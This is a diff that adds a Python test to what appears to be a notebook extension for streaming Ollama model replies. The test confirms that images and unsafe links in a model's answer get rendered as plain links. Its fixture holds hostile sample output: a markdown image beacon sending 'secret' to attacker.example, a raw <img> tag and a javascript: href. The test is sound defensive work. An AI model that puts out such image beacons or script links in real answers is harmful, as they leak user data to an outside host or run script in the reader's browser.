@@ -374,3 +374,28 @@ def test_views_share_layouts_and_styles_and_close_their_own_widgets(
     assert outside == set()  # it refers only to models opened with it: the shared anew
     remade = set(kernel.value(SHARED_WIDGETS))
     assert len(remade) == 5 and remade <= {m.content["comm_id"] for m in cell.comm_opens()}
+
+
+HOSTILE = (
+    "Here is the chart:\n\n![chart](https://attacker.example/c.png?q=secret)\n\n"
+    'And <img src="https://attacker.example/i.png" alt="icon"> inline, a [link](https://ok.example),'
+    " and $\\href{javascript:alert(1)}{x}$.\n\nThe end."
+)
+
+
+def test_images_in_an_answer_are_links_in_the_live_view_and_the_record(
+    kernel: KernelDriver, server: StandInServer
+) -> None:
+    server.configure(reply=HOSTILE, token_interval=0.02)
+    cell = kernel.submit("%%ollama stand-in\nDraw a chart.")
+    root = kernel.wait_for(lambda: cell.widget(_view_count=0), 5, "the tracked view")
+    kernel.show_view(root.content["comm_id"])
+    kernel.finish(cell)
+    (record,) = [d for d in cell.records() if "text/plain" in d]
+    for shown in (live_html(cell), record["text/html"]):
+        assert "attacker.example/c.png" in shown and "<img" not in shown.lower()
+        assert not re.search(r"""\bsrc\s*=|href=["']?javascript""", shown, re.I)
+        assert '<a href="https://ok.example">link</a>' in shown
+    image_link = r'<a class="ollama-nb-image" href="[^"]*c\.png[^"]*"[^>]*>chart</a>'
+    assert re.search(image_link, record["text/html"])
+    assert re.search(r"<a [^>]*>icon</a>", record["text/html"])
